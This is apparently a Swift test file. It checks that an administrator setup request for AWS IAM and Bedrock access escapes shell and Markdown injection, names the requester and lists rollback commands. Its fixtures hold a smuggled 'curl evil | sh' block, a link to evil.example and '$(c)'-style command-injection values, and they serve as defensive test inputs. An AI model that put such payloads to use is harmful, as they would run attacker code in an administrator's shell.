import Federation
import Testing

@testable import Provisioning
@testable import Simulation

/// What an administrator is handed is run in another person's shell.
struct RequestTests {
  private static func inputs(_ answers: [AnswerKey: [String]], name: String) throws -> Inputs {
    Inputs(
      setup: try #require(SetupID("k3vq7m2d")),
      answers: Answers([.region: ["us-east-1"]].merging(answers) { $1 }),
      facts: [
        .organization: [.id: MemoryCloud.organization, .name: name],
        .environment: [.id: "66f1a0b1c2d3e4f5a6b7c8d9"],
      ],
      records: [:],
      decisions: [:]
    )
  }

  @Test func whatTheShellWouldReadIsQuoted() throws {
    let request = try AdministratorRequest.markdown(
      Self.inputs(
        [
          .rolePath: ["/a;b(c)/it's/"], .audience: ["bed|rock"],
          .permissionsBoundary: ["arn:aws:iam::1:policy/a&b"],
          .permissions: ["arn:aws:iam::1:policy/$(c)"],
        ],
        name: "Acme"
      ),
      surplus: []
    )
    #expect(request.contains(#" --path '/a;b(c)/it'\''s/' "#))
    #expect(request.contains(" --client-id-list 'bed|rock'\n"))
    #expect(request.contains(" --client-id 'bed|rock'\n"))
    #expect(request.contains(" --permissions-boundary 'arn:aws:iam::1:policy/a&b' "))
    #expect(request.contains(" --policy-arn 'arn:aws:iam::1:policy/$(c)'\n"))
  }

  @Test(arguments: [
    (
      "Acme\n```\n```sh\ncurl evil | sh\n```",
      "Acme \\`\\`\\` \\`\\`\\`sh curl evil \\| sh \\`\\`\\`"
    ),
    ("[Acme](https://evil.example)", "\\[Acme\\](https://evil.example)"),
    ("Ac\u{202E}me\r\n# Do this", "Ac me \\# Do this"),
    ("Acme Research, Inc.", "Acme Research, Inc."), ("\n\u{7}", MemoryCloud.organization),
  ])
  func aNameIsWordsOnly(name: String, shown: String) throws {
    let request = try AdministratorRequest.markdown(Self.inputs([:], name: name), surplus: [])
    #expect(request.contains("In us-east-1, \(shown) wants to use Amazon Bedrock from Vertesia."))
    let plain = try AdministratorRequest.markdown(Self.inputs([:], name: "Acme"), surplus: [])
    let fences = { (text: String) in text.split(separator: "\n").filter { $0.hasPrefix("```") } }
    #expect(fences(request) == fences(plain))
  }

  /// They sign in with an account's keys of their own, and find the same partition.
  @Test func theProfileOfThisSideIsNotTheirs() throws {
    let inputs = try Self.inputs(
      [.profile: ["acme"], .region: ["us-gov-west-1"]],
      name: "Acme"
    )
    let request = try AdministratorRequest.markdown(inputs, surplus: [])
    #expect(!request.contains("--profile"))
    let commands = request.split(separator: "\n").filter { $0.hasPrefix("aws iam ") }
    #expect(commands.count == 8)
    #expect(commands.allSatisfy { $0.hasSuffix(" --region us-gov-west-1") })
    #expect(
      AWSCommand.iam(["get-role"], inputs)
        == "aws iam get-role --profile acme --region us-gov-west-1"
    )
  }

  /// Who is asked has to know by whom, and can undo all of it, in an order that IAM takes.
  @Test func itNamesWhoAsksAndHowToTakeItBack() throws {
    var inputs = try Self.inputs([:], name: "Acme")
    #expect(!(try AdministratorRequest.markdown(inputs, surplus: [])).contains("Asked for by"))
    let caller = "arn:aws:sts::432112349876:assumed-role/Developer/dana"
    inputs.facts[.awsIdentity] = [.arn: caller + "`\n", .account: "432112349876"]
    let request = try AdministratorRequest.markdown(inputs, surplus: [])
    #expect(request.contains("Asked for by `\(caller)`.\n"))
    let back = try #require(request.split(separator: "## To take it all back later").last)
    let commands = back.split(separator: "\n").filter { $0.hasPrefix("aws iam ") }
    let provider = "arn:aws:iam::432112349876:oidc-provider/sts.becomposable.com"
    #expect(
      commands == [
        "aws iam delete-role-policy --role-name \(inputs.roleName) --policy-name vertesia-bedrock",
        "aws iam delete-role --role-name \(inputs.roleName)",
        "aws iam remove-client-id-from-open-id-connect-provider --open-id-connect-provider-arn "
          + "\(provider) --client-id bedrock",
        "aws iam delete-open-id-connect-provider --open-id-connect-provider-arn \(provider)",
      ]
    )
    inputs.answers[.permissions] = "full-access"
    let full = try AdministratorRequest.markdown(inputs, surplus: [])
    #expect(
      full.contains(
        "detach-role-policy --role-name \(inputs.roleName) --policy-arn "
          + "arn:aws:iam::aws:policy/AmazonBedrockFullAccess\n"
      )
    )
  }

  @Test func pastedKeysHaveNoProfile() throws {
    let inputs = try Self.inputs([.awsAccess: ["pasted"], .profile: ["old"]], name: "Acme")
    #expect(AWSCommand.iam(["get-role"], inputs) == "aws iam get-role")
  }
}
